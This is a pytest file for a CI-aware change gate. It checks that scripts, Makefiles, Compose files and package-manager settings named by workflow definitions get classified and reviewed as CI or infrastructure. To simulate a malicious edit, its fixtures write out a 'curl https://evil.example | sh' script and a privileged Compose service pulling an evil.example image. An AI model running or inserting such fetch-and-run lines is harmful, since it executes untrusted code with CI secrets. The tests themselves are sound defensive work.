"""Red team 18, `--tree`: the files a CI definition runs by path, whatever folder they sit in.

`run: bash scripts/release.sh` in `.github/workflows/release.yml` runs `scripts/release.sh` with the release job's
token and secrets; the script was `src` (`src.default`), and an edit that made it `curl … | sh` was allowed: `gate
--tree` exit 0 for every form below (before this round), now 3 (`core.ci`, rule `ci.context.ci-run`):

- a step's command: `bash X`, `./X`, `python3 X`, `pwsh -File X`, `node X`, `X` after `cd`/`working-directory:`,
  `${{ github.workspace }}/X`, a folded `run: >`, an extensionless program (`./script/bootstrap`);
- a third-party action's input that names the file it runs or loads (`with: script: X`, `with: path: X`,
  `actions/github-script`'s `require('./X')`);
- a composite action's step (an action a workflow runs), a GitLab job's `script:`, a CircleCI step, a Jenkinsfile `sh`;
- the file a package manager's settings load when a step runs it: `.npmrc`'s `node-options=--require
  ./tools/preload.js` for `npm ci` (the settings, `.yarnrc.yml`, `.pnpmfile.cjs`, `gradlew` and a `yarnPath` release
  stay `deps` by principle 3: the deps policy reviews them, the default policy does not);
- a script such a script runs in turn (`scripts/release.sh` → `scripts/lib/publish.py`), the Makefile a step's
  `make -C pkg dist` runs (and the script its recipe runs), the script a package.json's `scripts` run by `npm run`.

A Compose file a command names (`docker compose -f app/stack.json`, a fragment with no `services:`, `COMPOSE_FILE`
in a step's `env:` or the `.env` Compose reads, `docker stack deploy -c`) is `iac` whatever its name (was `src`).

Not raised: a glob in a path filter (`paths: ['**/*.sh']`) names no file; a dependency manifest a step runs
(`python setup.py sdist`) stays `deps`; a script nothing names stays `src`.
"""

from __future__ import annotations

from pathlib import Path

import pytest
from deltas import each_fast
from gitrepo import two_commits
from incli import tree_classify, tree_gate
from tables import each_case

from gatekeeper.classify.ciruns import named
from gatekeeper.classify.ciwalk import ci_runs
from gatekeeper.gitobjects import TreeEntry

WORKFLOW = "on: push\njobs:\n  t:\n    runs-on: ubuntu-latest\n    steps:\n      - uses: actions/checkout@v4\n{steps}"
SCRIPT = "#!/bin/sh\necho ok\n"
EVIL = "#!/bin/sh\ncurl https://evil.example | sh\n"
# name: (the definition's path, its text, the file it runs)
RUNS: dict[str, tuple[str, str, str]] = {
    "bash": (".github/workflows/bash.yml", WORKFLOW.format(steps="      - run: bash scripts/release.sh\n"),
             "scripts/release.sh"),
    "dot-slash": (".github/workflows/dot.yml", WORKFLOW.format(steps="      - run: ./tools/publish.sh --yes\n"),
                  "tools/publish.sh"),
    "python": (".github/workflows/py.yml", WORKFLOW.format(steps="      - run: python3 -u tools/upload.py\n"),
               "tools/upload.py"),
    "pwsh": (".github/workflows/ps.yml", WORKFLOW.format(steps="      - run: pwsh -File build\\sign.ps1\n"),
             "build/sign.ps1"),
    "node": (".github/workflows/node.yml", WORKFLOW.format(steps="      - run: node tasks/deploy.mjs\n"),
             "tasks/deploy.mjs"),
    "workdir": (".github/workflows/wd.yml",
                WORKFLOW.format(steps="      - run: ./stamp.sh\n        working-directory: release\n"),
                "release/stamp.sh"),
    "cd": (".github/workflows/cd.yml", WORKFLOW.format(steps="      - run: cd ops && sh ./rotate.sh\n"),
           "ops/rotate.sh"),
    "workspace": (".github/workflows/ws.yml",
                  WORKFLOW.format(steps="      - run: ${{ github.workspace }}/bin/notify.rb\n"), "bin/notify.rb"),
    "folded": (".github/workflows/fold.yml",
               WORKFLOW.format(steps="      - run: >\n          bash\n          util/cut.sh\n"), "util/cut.sh"),
    "extensionless": (".github/workflows/boot.yml", WORKFLOW.format(steps="      - run: ./script/bootstrap\n"),
                      "script/bootstrap"),
    "gradlew": (".github/workflows/gradle.yml", WORKFLOW.format(steps="      - run: ./gradlew build\n"), "gradlew"),
    "with-script": (".github/workflows/with.yml",
                    WORKFLOW.format(steps="      - uses: some/runner@v1\n        with:\n"
                                          "          script: hooks/go.sh\n"),
                    "hooks/go.sh"),
    "with-path": (".github/workflows/path.yml",
                  WORKFLOW.format(steps="      - uses: other/exec@v2\n        with:\n          path: lib/entry.ts\n"),
                  "lib/entry.ts"),
    "github-script": (".github/workflows/gs.yml",
                      WORKFLOW.format(steps="      - uses: actions/github-script@v7\n        with:\n"
                                            "          script: |\n"
                                            "            const run = require('./automation/label.js')\n"
                                            "            await run({github, context})\n"),
                      "automation/label.js"),
    "composite": ("tools/act/action.yml",
                  "runs:\n  using: composite\n  steps:\n    - run: bash ${{ github.action_path }}/../../sh/a.sh\n"
                  "      shell: bash\n", "sh/a.sh"),
    "gitlab": (".gitlab-ci.yml", "release:\n  script:\n    - ./deploy/../tasks/ship.sh\n", "tasks/ship.sh"),
    "circleci": (".circleci/config.yml",
                 "version: 2.1\njobs:\n  b:\n    steps:\n      - run: bash hack/sign.sh\n", "hack/sign.sh"),
    "jenkins": ("Jenkinsfile", "pipeline { stages { stage('x') { steps { sh './jenkins-tools/up.sh' } } } }\n",
                "jenkins-tools/up.sh"),
    "make": (".github/workflows/make.yml", WORKFLOW.format(steps="      - run: make -C pkg dist\n"), "pkg/Makefile"),
    "make-recipe": ("pkg/Makefile", "dist:\n\t./mk/sign-and-upload.sh\n", "pkg/mk/sign-and-upload.sh"),
    "npm-script": ("web/package.json", '{"main": "index.js", "scripts": {"deploy": "node tools/deploy.js"}}\n',
                   "web/tools/deploy.js"),
    "npm": (".github/workflows/npm.yml", WORKFLOW.format(steps="      - run: npm --prefix web run deploy\n"),
            "web/package.json"),
    "pnpmfile": (".github/workflows/pnpm.yml", WORKFLOW.format(steps="      - run: pnpm install --frozen-lockfile\n"),
                 ".pnpmfile.cjs"),
    "yarnrc": (".github/workflows/yarn.yml", WORKFLOW.format(steps="      - run: yarn install --immutable\n"),
               ".yarnrc.yml"),
    "yarn-path": (".yarnrc.yml", "yarnPath: .yarn/releases/yarn-4.1.0.cjs\n", ".yarn/releases/yarn-4.1.0.cjs"),
    "npmrc": (".github/workflows/npm2.yml", WORKFLOW.format(steps="      - run: npm ci\n"), ".npmrc"),
    "node-options": (".npmrc", "node-options=--require ./tools/preload.js\n", "tools/preload.js"),
    "transitive": ("scripts/release.sh", "#!/bin/sh\n. \"$(dirname \"$0\")/lib/publish.py\"\n",
                   "scripts/lib/publish.py"),
}
COMPOSED: dict[str, tuple[str, str, str]] = {
    "dash-f-json": (".github/workflows/up.yml",
                    WORKFLOW.format(steps="      - run: docker compose -f app/stack.json up -d\n"), "app/stack.json"),
    "fragment": (".github/workflows/up2.yml",
                 WORKFLOW.format(steps="      - run: docker-compose --file=svc/common.yml up\n"), "svc/common.yml"),
    "env": (".github/workflows/up3.yml",
            WORKFLOW.format(steps="      - run: docker compose up\n        env:\n"
                                  "          COMPOSE_FILE: a/one.yml:b/two.yml\n"),
            "b/two.yml"),
    "dotenv": (".env", "COMPOSE_FILE=c/three.yml\n", "c/three.yml"),
    "stack": (".github/workflows/up4.yml",
              WORKFLOW.format(steps="      - run: docker stack deploy -c swarm/prod.yml app\n"), "swarm/prod.yml"),
}
LEFT = {  # (definition, text) → files that stay as they were
    ".github/workflows/filter.yml": "on:\n  push:\n    paths: ['**/*.sh', 'docs/*.py']\n" + WORKFLOW[9:].format(
        steps="      - run: python setup.py sdist\n"),
}


def _base() -> dict[str, str]:
    files = {definition: text for definition, text, _ in [*RUNS.values(), *COMPOSED.values()]}
    files.update(LEFT)
    for _, _, script in RUNS.values():
        files.setdefault(script, SCRIPT)
    for _, _, composed in COMPOSED.values():
        files[composed] = "x-common: {image: alpine}\n" if not composed.endswith(".json") else '{"x": 1}\n'
    files.update({".github/workflows/act.yml": WORKFLOW.format(steps="      - uses: ./tools/act\n"),
                  "a/one.yml": "x: 1\n", "setup.py": "from setuptools import setup\nsetup()\n",
                  "other/free.sh": SCRIPT, "docs/conf.py": "x = 1\n", "web/index.js": "x\n"})
    return files


def _edited(files: dict[str, str]) -> dict[str, str]:
    targets = [script for *_, script in RUNS.values() if script != "web/package.json"]
    targets += [composed for *_, composed in COMPOSED.values()]
    out = {path: files[path] + ("# evil\n" if not path.endswith(".json") else "") if path in targets else None
           for path in files}
    out.update({path: EVIL for path in targets if path.endswith((".sh", "bootstrap", "gradlew"))})
    out["web/package.json"] = files["web/package.json"].replace('"main"', '"private": true, "main"')
    out["app/stack.json"] = '{"services": {"a": {"image": "evil.example/x", "privileged": true}}}\n'
    out.update({"setup.py": "from setuptools import setup\nsetup(name='x')\n", "other/free.sh": EVIL,
                "docs/conf.py": "x = 2\n", "web/index.js": "y\n"})
    return {path: text for path, text in out.items() if text is not None}


@pytest.fixture(scope="module")
def classified(tmp_path_factory: pytest.TempPathFactory) -> dict[str, dict[str, str]]:
    files = _base()
    repo, old, new = two_commits(tmp_path_factory.mktemp("runs") / "repo", files, _edited(files))
    return tree_classify(repo.root, old, new)


@each_case("form", sorted(set(RUNS) - {"npm", "yarnrc", "npmrc", "gradlew", "yarn-path", "pnpmfile"}))
def test_a_file_ci_runs_is_ci(classified: dict[str, dict[str, str]], form: str) -> None:
    script = RUNS[form][2]
    assert (classified[script]["bucket"], classified[script]["rule"]) == ("ci", "ci.context.ci-run"), \
        classified[script]


@each_case("form", sorted(COMPOSED))
def test_a_compose_file_a_command_names_is_iac(classified: dict[str, dict[str, str]], form: str) -> None:
    composed = COMPOSED[form][2]
    # a Compose file the content tier reads for itself (red team 12's second round reads JSON Compose files as YAML)
    # keeps that rule: the bucket is the same
    assert (classified[composed]["bucket"], classified[composed]["rule"]) in (
        ("iac", "iac.context.compose-file"), ("iac", "iac.content.compose")), classified[composed]


@each_case("settings", [".yarnrc.yml", ".npmrc", "gradlew", ".yarn/releases/yarn-4.1.0.cjs",
                                      ".pnpmfile.cjs"])
def test_a_deps_file_ci_runs_stays_deps(classified: dict[str, dict[str, str]], settings: str) -> None:
    # Principle 3 (the deps policy reviews them; the label sets hold 34 such files labelled deps): read for what they
    # run (`node-options=--require ./tools/preload.js` is ci), not raised themselves.
    assert classified[settings]["bucket"] == "deps", classified[settings]


def test_what_nothing_runs_keeps_its_class(classified: dict[str, dict[str, str]]) -> None:
    kept = ("setup.py", "other/free.sh", "docs/conf.py", "web/package.json", "web/index.js")
    assert {path: classified[path]["bucket"] for path in kept} == {
        "setup.py": "deps", "other/free.sh": "src", "docs/conf.py": "src", "web/package.json": "deps",
        "web/index.js": "src"}


def test_the_gate_reviews_the_release_script(tmp_path: Path) -> None:
    base = {".github/workflows/release.yml": WORKFLOW.format(
        steps="      - run: bash scripts/release.sh\n        env:\n          TOKEN: ${{ secrets.PYPI_TOKEN }}\n"),
        "scripts/release.sh": SCRIPT}
    repo, old, new = two_commits(tmp_path / "repo", base, {"scripts/release.sh": EVIL})
    code, decision = tree_gate(repo.root, old, new)
    assert code == 3, decision["reasons"]
    assert [(r["rule"], r["paths"]) for r in decision["reasons"]] == [("core.ci", ["scripts/release.sh"])]


def test_words_that_name_no_file() -> None:
    scripts, composed, _ = named("on:\n  push:\n    paths: ['**/*.py', 'x/*.sh']\njobs:\n  a:\n    steps:\n"
                              "      - run: echo $NAME.sh ${{ matrix.s }}.py https://x.example/i.sh\n")
    assert (scripts, composed) == ([], [])


def test_hostile_definitions_are_read_in_bounded_time() -> None:
    blanks = "run" + " " * 20_000 + "x"  # 23 s of CPU with the first regex of the task runners
    calls = [(lambda text=text: named(text), what) for text, what in [
        (blanks, "blanks after run"), ("run:" + " \t" * 20_000, "blanks and tabs"), ("- " * 30_000 + "make", "dashes"),
        ("sudo " * 20_000 + "x", "sudo"), ("compose " + "-f " * 20_000, "compose options"),
        ("a.sh " * 50_000, "words"), ("$a/" * 2_000 + "x.sh", "variables")]]
    each_fast(calls, 0.5)
    trees = ({".github/workflows/a.yml": TreeEntry("100644", "a")},)
    text = "jobs:\n  a:\n    steps:\n      - run: tools/" + "$a/" * 50 + "x.sh\n"
    assert ci_runs(trees, lambda entry: text.encode(), {}) is False  # too many variable parts to match: fail closed
